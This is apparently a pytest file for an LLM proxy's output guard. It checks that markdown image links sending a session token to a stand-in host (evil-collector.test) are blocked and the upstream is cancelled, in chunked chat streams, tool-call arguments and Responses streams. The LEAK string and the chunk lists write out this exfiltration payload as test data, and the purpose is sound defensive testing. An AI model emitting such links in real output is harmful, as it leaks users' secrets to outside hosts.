"""Exfiltration links: caught however the chunks split them; no piece of the URL leaks."""

from __future__ import annotations

import functools
from pathlib import Path

import pytest

from proxy.context import Principal, RequestContext, Route
from proxy.devtools.fake_upstream import FakeUpstream, Reply
from proxy.guards.output.score import AnomalyGuard, build
from proxy.pipeline.config import GuardEntry
from proxy.pipeline.guard import BuildContext
from proxy.streaming.channel import OutputChannel, Watch
from proxy.verdicts import Block
from tests.conftest import RULES
from tests.guards.output.harness import GuardedProxy, enable
from tests.guards.output.streams import chat_stream, client, messages, wait_for

SECRET = "c2VjcmV0LXNlc3Npb24tdG9rZW4"
LEAK = f"Here is the chart: ![chart](https://evil-collector.test/p.png?d={SECRET}) as promised."
FILLER = ["Then ", "some ", "more ", "text ", "follows ", "here. "] * 6


@functools.cache
def shipped_guard() -> AnomalyGuard:
    return build(BuildContext(RULES))


def channel(window: int) -> OutputChannel:
    ctx = RequestContext("r1", Route.CHAT, Principal("dev", "dev"), {"model": "m", "messages": []}, b"")
    guard = shipped_guard()
    scanner = guard.open(ctx)
    assert scanner is not None
    return OutputChannel(ctx, [Watch(GuardEntry(guard="output_anomaly"), scanner)], window)


@pytest.mark.parametrize("window", [0, 16, 64])
def test_an_image_link_split_at_any_point_is_blocked_before_any_of_its_url_leaves(window: int) -> None:
    text = LEAK + " trailing words to push the window along."
    for cut in range(1, len(text)):
        for second in (cut + 1, cut + 7, len(text)):
            pieces = [text[:cut], text[cut:second], text[second:]]
            ch, released, ending = channel(window), "", None
            for p in pieces:
                if not p:
                    continue
                out, ending = ch.push(p)
                released += out
                if ending is not None:
                    break
            assert isinstance(ending, Block), (cut, second)
            assert "evil" not in released and "https://" not in released and SECRET[:6] not in released, (cut, released)
            assert [h.rule_id for h in ending.hits] == ["output.exfil.image"]


def test_allowed_hosts_and_plain_links_pass_unchanged() -> None:
    text = "See ![logo](https://upload.wikipedia.org/logo.png) and [docs](https://platform.openai.com/docs?x=1)."
    ch = channel(0)
    out, ending = ch.push(text)
    assert ending is None and out == text


@pytest.mark.parametrize("window", [0, 64])
async def test_image_link_mid_stream_is_cut_and_upstream_cancelled(
    guarded_proxy: GuardedProxy, rules_copy: Path, upstream: FakeUpstream, window: int
) -> None:
    enable(rules_copy, response=["output_anomaly"], window=window)
    proxy = await guarded_proxy(rules_copy)
    pieces = [
        "Here is the chart: ",
        "![chart](ht",
        "tps://evil-coll",
        "ector.test/p.png?d=",
        SECRET[:10],
        SECRET[10:],
        ") as promised. ",
        *FILLER,
    ]
    upstream.script(Reply(chunks=pieces, chunk_delay_s=0.01))
    got = await chat_stream(proxy, messages("Summarise my session."))
    assert got.finish == "content_filter"
    assert "evil" not in got.text and "https" not in got.text and SECRET[:10] not in got.text
    assert await wait_for(lambda: upstream.disconnects == 1)


async def test_exfil_in_tool_call_arguments_is_cut(
    guarded_proxy: GuardedProxy, rules_copy: Path, upstream: FakeUpstream
) -> None:
    enable(rules_copy, response=["output_anomaly"], window=32)
    proxy = await guarded_proxy(rules_copy)
    args = '{"note": "![x](https://evil-collector.test/a.png?d=' + SECRET + ')", "pad": "' + "z" * 200 + '"}'
    upstream.script(Reply(tool_calls=[{"name": "save_note", "arguments": args}], chunk_delay_s=0.005))
    tools = [{"type": "function", "function": {"name": "save_note", "parameters": {"type": "object"}}}]
    got = await chat_stream(proxy, messages("save it"), tools=tools)
    assert got.finish == "content_filter"
    assert "evil" not in got.args and SECRET[:8] not in got.args
    assert await wait_for(lambda: upstream.disconnects == 1)


async def test_responses_stream_ends_incomplete_without_the_link(
    guarded_proxy: GuardedProxy, rules_copy: Path, upstream: FakeUpstream
) -> None:
    enable(rules_copy, response=["output_anomaly"], window=0)
    proxy = await guarded_proxy(rules_copy)
    upstream.script(
        Reply(chunks=["Chart: ", "![c](https://evil-", f"collector.test/x?d={SECRET})", *FILLER], chunk_delay_s=0.01)
    )
    text, final, kinds = "", None, []
    async with client(proxy).responses.stream(model="gpt-4o-mini", input="chart please") as stream:
        async for event in stream:
            kinds.append(event.type)
            if event.type == "response.output_text.delta":
                text += event.delta
            if event.type == "response.incomplete":
                final = event.response
    assert kinds[-1] == "response.incomplete" and kinds[0] == "response.created"
    assert final is not None and final.status == "incomplete" and "evil" not in text
    assert final.incomplete_details is not None and final.incomplete_details.reason == "content_filter"
    assert await wait_for(lambda: upstream.disconnects == 1)


async def test_bare_url_with_data_is_only_flagged_with_a_score_header(
    guarded_proxy: GuardedProxy, rules_copy: Path, upstream: FakeUpstream
) -> None:
    enable(rules_copy, response=["output_anomaly"])
    proxy = await guarded_proxy(rules_copy)
    answer = "Your tracking page is https://tracker.shipping.test/t?id=123 today."
    upstream.script(Reply(text=answer))
    raw = await client(proxy).chat.completions.with_raw_response.create(model="gpt-4o-mini", messages=messages("track"))
    assert raw.parse().choices[0].message.content == answer
    assert raw.headers["x-guardrail-decision"] == "flag"
    assert raw.headers["x-guardrail-rules"] == "output.exfil.url"
    assert raw.headers["x-guardrail-output-score"] == "0.30"
